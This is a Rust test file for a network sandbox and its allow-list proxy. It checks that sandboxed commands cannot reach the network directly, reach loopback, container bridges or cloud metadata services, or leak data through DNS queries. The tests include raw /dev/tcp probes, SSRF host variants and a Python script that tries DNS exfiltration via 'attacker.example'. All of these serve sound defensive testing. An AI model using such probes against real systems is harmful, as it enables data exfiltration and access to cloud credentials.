//! Nothing leaves but through the proxy, and the proxy leads nowhere inwards.

use std::fs;
use std::net::TcpListener;
use std::process::Command;

use crate::internet::{Internet, SERVER, bash, text};
use crate::machine::{Caller, Feature, Runner, callers, image, is_there, runners};
use crate::place::Place;
use crate::secrets::second;
use crate::{ask, everywhere, everywhere_but_natively, first_line, ready};

/// Everything that could be sent without a proxy: each line says what has gone.
const DIRECT: &str = r#"
try() { name=$1; shift; if timeout 2 "$@" 2>/dev/null; then echo "left: $name"; fi; }
try tcp bash -c 'exec 3<>/dev/tcp/198.51.100.7/8080'
try udp bash -c 'echo x >/dev/udp/198.51.100.7/53'
try host bash -c 'exec 3<>/dev/tcp/127.0.0.1/8080'
try metadata bash -c 'exec 3<>/dev/tcp/169.254.169.254/80'
try ipv6 bash -c 'exec 3<>/dev/tcp/2001:db8::1/80'
try resolver bash -c 'echo x >/dev/udp/203.0.113.1/53'
grep -v -e '^ *lo:' -e '|' /proc/net/dev
tail -n +2 /proc/net/route
echo done
"#;

#[test]
fn nothing_leaves_without_the_proxy() {
    everywhere("direct ways out", |place, internet, who| {
        // The control: whoever is on this internet itself sends all of it.
        let outside = text(&internet.command(&place.outside(&bash(DIRECT))).output().unwrap());
        for way in ["tcp", "udp", "host", "metadata", "ipv6", "resolver"] {
            assert!(outside.contains(&format!("left: {way}\n")), "{who}: {outside}");
        }
        for flags in [&[][..], &["--allow-host", "up.example.org:8080"]] {
            let output = internet.run(place, flags, &bash(DIRECT));
            assert_eq!(text(&output), "done\n", "{who} with {flags:?}: {output:?}");
        }
    });
}

#[test]
fn the_proxy_leads_nowhere_inwards() {
    everywhere("ways inwards", |place, internet, who| {
        let hosts = [
            "127.0.0.1:8080", "localhost:8080", "[::1]:8080", "[::ffff:127.0.0.1]:8080", "0.0.0.0:8080",
            "2130706433:8080", "0177.0.0.1:8080", "127.1:8080", "169.254.169.254:80", "[fd00:ec2::254]:80",
            "inward.example.org:8080", "private.example.org:80", "mixed.example.org:8080",
            "metadata.example.org:80", "metadata6.example.org:80", "metadata-too.example.org:80",
            "up.example.org:22",
        ];
        let connect = |host: &str| {
            let request =
                format!("CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n");
            format!("echo 'to {host}'; {}", first_line(&request))
        };
        let asked = hosts.map(connect);
        let flags = ["--allow-host=*.example.org:8080", "--allow-host=*.example.org:80"];
        let output = internet.run(place, &flags, &bash(&asked.join("\n")));
        let said = text(&output).replace('\r', "");
        for host in hosts {
            assert!(
                said.contains(&format!("to {host}\nHTTP/1.1 403 Forbidden\n")),
                "{who}: {host} was not refused: {said} {output:?}"
            );
        }
        // Without a proxy, a name has an address inside, and nobody answers there.
        let direct = ["metadata", "metadata6", "metadata-too"].map(|name| {
            format!(
                "(exec 3<>/dev/tcp/{name}.example.org/80 && echo connected && printf 'GET / HTTP/1.1\\r\\nHost: {name}.example.org\\r\\n\\r\\n' >&3 &&
                timeout 10 cat <&3)"
            )
        });
        let output = internet.run(place, &flags, &bash(&direct.join("\n")));
        assert_eq!(text(&output).matches("connected").count(), 3, "{who}: {output:?}");
        assert!(!text(&output).contains("served"), "{who}: {output:?}");
        let came = internet.requests();
        assert!(came.iter().all(|line| line.starts_with("dns ")), "{who}: somebody has connected: {came:?}");

        // The control: these servers are there, and the proxy reaches one, where a rule names just that address.
        let internet = Internet::of(place);
        let output = internet.run(place, &["--allow-host=127.0.0.1:8080"], &bash(&connect("127.0.0.1:8080")));
        assert_eq!(text(&output).matches("HTTP/1.1 200 ").count(), 1, "{who}: {output:?}");
        for (path, host) in
            [("169.254.169.254", "169.254.169.254:80"), ("fd00:ec2::254", "[fd00:ec2::254]:80")]
        {
            let ask = format!(
                "exec 3<>/dev/tcp/{path}/80; printf 'GET / HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n' >&3; cat <&3"
            );
            let mut outside = Command::new("bash");
            outside.args(["-c", &ask]).current_dir("/");
            let reached = internet.command(&outside).output().unwrap();
            assert!(text(&reached).contains("served GET /"), "{who}: {reached:?}");
            // No rule names a metadata service.
            let refused = internet.run(place, &[&format!("--allow-host={host}")], &["true"]);
            assert_eq!(refused.status.code(), Some(2), "{who}: {refused:?}");
            let error = String::from_utf8_lossy(&refused.stderr);
            assert!(error.contains("metadata service") && error.contains("never allowed"), "{who}: {error}");
        }
    });
}

/// Asks for a name in every way there is, and says of none what came of it: that is seen where the questions arrive.
const ASK: &str = r#"
import socket, struct, sys
name, *resolvers = sys.argv[1:]

def attempt(action):
    try:
        action()
    except OSError:
        pass

def question(kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)

def datagram(resolver, kind):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
        asked.settimeout(2)
        asked.connect((resolver, 53))
        asked.send(question(kind))
        asked.recv(512)

def stream(address, *sent):
    with socket.create_connection(address, 2) as asked:
        for one in sent:
            asked.sendall(one)
            asked.recv(512)

attempt(lambda: socket.getaddrinfo(name, 80))
for resolver in resolvers:
    # A, TXT, NULL and ANY.
    for kind in 1, 16, 10, 255:
        attempt(lambda: datagram(resolver, kind))
    attempt(lambda: stream((resolver, 53), struct.pack(">H", len(question(1))) + question(1)))
proxy, host = ("127.0.0.1", 61080), name.encode()
attempt(lambda: stream(proxy, b"CONNECT %s:443 HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, host)))
attempt(lambda: stream(proxy, b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, host)))
attempt(lambda: stream(proxy, b"\5\1\0", b"\5\1\0\3" + bytes([len(host)]) + host + b"\0\x50"))
print("asked")
"#;

#[test]
fn no_name_carries_anything_out() {
    everywhere("data in names", |place, internet, who| {
        let name = "data.labels.attacker.example";
        let outside = fs::read_to_string("/etc/resolv.conf").unwrap();
        let outside = outside.lines().filter_map(|line| line.strip_prefix("nameserver ")).map(str::trim);
        let resolvers: Vec<_> = outside.chain(["127.0.0.53", "203.0.113.1", SERVER]).collect();
        let argv = [&["python3", "-c", ASK, name][..], &resolvers].concat();
        let arrived = |internet: Internet| {
            internet.requests().into_iter().filter(|line| line.ends_with(name)).collect::<Vec<_>>()
        };
        // The control: whoever is on this internet asks, and the question arrives; and so it does from the proxy, where a rule
        // allows that name and somebody connects to it.
        let control = Internet::of(place);
        let output = control.command(&place.outside(&argv)).output().unwrap();
        assert_eq!(text(&output), "asked\n", "{who}: {output:?}");
        assert!(arrived(control).len() >= 5, "{who}: in the control");
        let control = Internet::of(place);
        let output = control.run(place, &["--allow-host=*.attacker.example:443"], &argv);
        assert_eq!(text(&output), "asked\n", "{who}: {output:?}");
        // For both kinds of address, once: the questions themselves were not passed on.
        assert!(matches!(arrived(control).len(), 1..=2), "{who}: by a rule");

        for flags in [&[][..], &["--allow-host=up.example.org", "--allow-host=*.example.org:80"]] {
            let output = internet.run(place, flags, &argv);
            assert_eq!(text(&output), "asked\n", "{who} with {flags:?}: {output:?}");
        }
        assert_eq!(internet.requests(), [""; 0], "{who}");
    });
}

/// A container of somebody else, on the bridge of an engine that is called so.
struct Neighbour<'a> {
    engine: &'a dyn Fn(&[&str]) -> String,
    id: String,
}

impl<'a> Neighbour<'a> {
    fn start(engine: &'a dyn Fn(&[&str]) -> String) -> Self {
        let server = ["python3", "-m", "http.server", "8000"];
        let id = engine(&[&["run", "--detach", "--rm", &image()][..], &server].concat());
        assert!(!id.is_empty());
        Self { engine, id }
    }

    fn address(&self, field: &str) -> String {
        let format = format!("{{{{range .NetworkSettings.Networks}}}}{{{{.{field}}}}}{{{{end}}}}");
        (self.engine)(&["inspect", "--format", &format, &self.id])
    }

    /// Checks that any other container of this engine reaches hosts, and returns the script that tries it.
    fn control(&self, hosts: &[String], who: &str) -> String {
        let direct = hosts.iter().map(|host| {
            let path = host.replace(':', "/");
            format!("until (exec 3<>/dev/tcp/{path}) 2>/dev/null; do [ $((attempt++)) -lt ${{1:-1}} ] || {{ echo \"not {host}\"; break; }}; done; attempt=0; echo tried")
        });
        let direct = direct.collect::<Vec<_>>().join("\n");
        let other = ["run", "--rm", &image(), "bash", "-c", &direct, "bash", "100000"];
        assert_eq!((self.engine)(&other), vec!["tried"; hosts.len()].join("\n"), "{who}: the control");
        direct
    }
}

impl Drop for Neighbour<'_> {
    fn drop(&mut self) {
        (self.engine)(&["kill", &self.id]);
    }
}

/// Returns what a command of an engine prints.
fn printed(mut command: Command) -> String {
    let output = command.output().unwrap();
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}

/// Checks that a sandbox reaches none of these hosts, by itself or by way of the proxy, without a list and with one.
fn none_is_reached(place: &Place, hosts: &[String], direct: &str, who: &str) {
    let not = hosts.iter().map(|host| format!("not {host}\ntried\n")).collect::<Vec<_>>().concat();
    let closed = tried(place, hosts, direct, &[]);
    assert!(
        closed.starts_with(&not) && closed.matches("61080: Connection refused").count() == hosts.len(),
        "{who}: {closed}"
    );
    let refused = tried(place, hosts, direct, &["--allow-host=*.example.org".to_owned()]);
    let answers = "HTTP/1.1 403 Forbidden\n".repeat(hosts.len());
    assert_eq!(refused.replace('\r', ""), not + &answers, "{who}");
}

/// Tries to reach hosts from a sandbox in both ways. Its client is on this host itself, whose bridges these are.
fn tried(place: &Place, hosts: &[String], direct: &str, flags: &[String]) -> String {
    let proxied = hosts.iter().map(|host| {
        let request = format!("CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n");
        format!("({}) 2>&1", first_line(&request))
    });
    let script = std::iter::once(direct.to_owned()).chain(proxied).collect::<Vec<_>>().join("\n");
    text(&place.inside(flags, &bash(&script)).output().unwrap())
}

#[test]
fn neither_containers_nor_their_bridge_are_reached() {
    let test = "containers beside a sandbox";
    if !is_there(Feature::Docker, test) {
        return;
    }
    let docker = |words: &[&str]| {
        let mut docker = Command::new("docker");
        docker.args(words);
        printed(docker)
    };
    let (neighbour, host) = (Neighbour::start(&docker), TcpListener::bind("0.0.0.0:0").unwrap());
    let bridge = format!("{}:{}", neighbour.address("Gateway"), host.local_addr().unwrap().port());
    let hosts = [format!("{}:8000", neighbour.address("IPAddress")), bridge];
    let direct = neighbour.control(&hosts, "Docker");
    everywhere(test, |place, _, who| {
        none_is_reached(place, &hosts, &direct, who);
        // The proxy could: where rules name just these addresses, it does, and there is no other way then either.
        let not = hosts.each_ref().map(|host| format!("not {host}\ntried\n")).concat();
        let flags = hosts.each_ref().map(|host| format!("--allow-host={host}"));
        let allowed = tried(place, &hosts, &direct, &flags);
        assert!(
            allowed.starts_with(&not) && allowed.matches("HTTP/1.1 200 ").count() == 2,
            "{who}: {allowed}"
        );
    });
}

#[test]
fn containers_of_its_own_engine_are_not_reached() {
    let test = "containers of the same engine";
    if !is_there(Feature::Root, test) {
        return;
    }
    let all = callers(test).into_iter();
    let all = all.flat_map(|caller| runners(caller, test).into_iter().map(move |runner| (caller, runner)));
    for (caller, runner) in all {
        let program = match (runner, caller) {
            (Runner::Docker | Runner::RootlessDocker, _) => "docker",
            (Runner::Podman, Caller::Root) => "podman",
            // Podman of a normal user has no bridge: each container has a network of its own.
            (Runner::Podman, Caller::Normal) | (Runner::Native | Runner::Local, _) => continue,
        };
        let place = Place::on(caller, runner);
        let engine = |words: &[&str]| printed(place.outside(&[&[program], words].concat()));
        let neighbour = Neighbour::start(&engine);
        let who = format!("in {runner:?} by {caller:?}");
        let hosts = [format!("{}:8000", neighbour.address("IPAddress"))];
        let direct = neighbour.control(&hosts, &who);
        none_is_reached(&place, &hosts, &direct, &who);
    }
}

#[test]
fn a_second_command_has_no_other_way_out() {
    everywhere_but_natively("ways out of an exec", |place, internet, who| {
        let name = "data.labels.attacker.example";
        let inward = ["127.0.0.1:8080", "169.254.169.254:80", "[::1]:8080", "inward.example.org:8080"];
        let connect = inward.map(|host| {
            let request =
                format!("CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n");
            format!("({}) 2>&1", first_line(&request))
        });
        let ask = format!("python3 - {name} 127.0.0.53 203.0.113.1 {SERVER} <<'END'\n{ASK}\nEND");
        let script = [DIRECT, &ask, &connect.join("\n")].join("\n");
        for (number, flags) in [&[][..], &["--allow-host=*.example.org:8080"]].into_iter().enumerate() {
            let sandbox = format!("way{number}of{}", std::process::id());
            let named = format!("--name={sandbox}");
            let flags = [&[&*named][..], flags].concat();
            let first = place.inside(&flags, &["sh", "-c", "echo ready; cat"]);
            let mut first = ready::start(&mut internet.command(&first));
            let said = text(&second(place, &[], &sandbox, &script)).replace('\r', "");
            let (direct, proxied) = said.split_once("done\nasked\n").unwrap_or_default();
            assert_eq!(direct, "", "{who} with {flags:?}: {said}");
            let (answer, control) = match number {
                0 => ("61080: Connection refused", false),
                _ => ("HTTP/1.1 403 Forbidden", true),
            };
            assert_eq!(proxied.matches(answer).count(), inward.len(), "{who} with {flags:?}: {said}");
            // The control: the rule is what decides, and the exec is under it.
            let page =
                "GET http://up.example.org:8080/ HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n";
            let served = text(&second(place, &[], &sandbox, &crate::ask(page))).contains("served GET /");
            assert_eq!(served, control, "{who} with {flags:?}");
            drop(first.stdin.take());
            assert!(first.wait().unwrap().success(), "{who}");
        }
        let came = internet.requests();
        assert!(!came.iter().any(|line| line.ends_with(name)), "{who}: {came:?}");
    });
}

#[test]
fn without_a_list_nobody_answers_where_the_proxy_would() {
    everywhere("no proxy", |place, internet, who| {
        let script =
            "env | grep -ci proxy; (exec 3<>/dev/tcp/127.0.0.1/61080) 2>/dev/null && echo open; echo done";
        let output = internet.run(place, &[], &bash(script));
        assert_eq!(text(&output), "0\ndone\n", "{who}: {output:?}");
    });
}

#[test]
fn a_name_is_not_looked_up_where_no_rule_asks_for_it() {
    everywhere("no look-ups", |place, internet, who| {
        let script =
            ask(&format!("CONNECT {SERVER}:8080 HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n"));
        let output = internet.run(place, &["--allow-host", "up.example.org:8080"], &bash(&script));
        // An address is no name: the rule is about the name alone.
        assert!(text(&output).starts_with("HTTP/1.1 403"), "{who}: {output:?}");
        assert_eq!(internet.requests(), [""; 0], "{who}");
    });
}
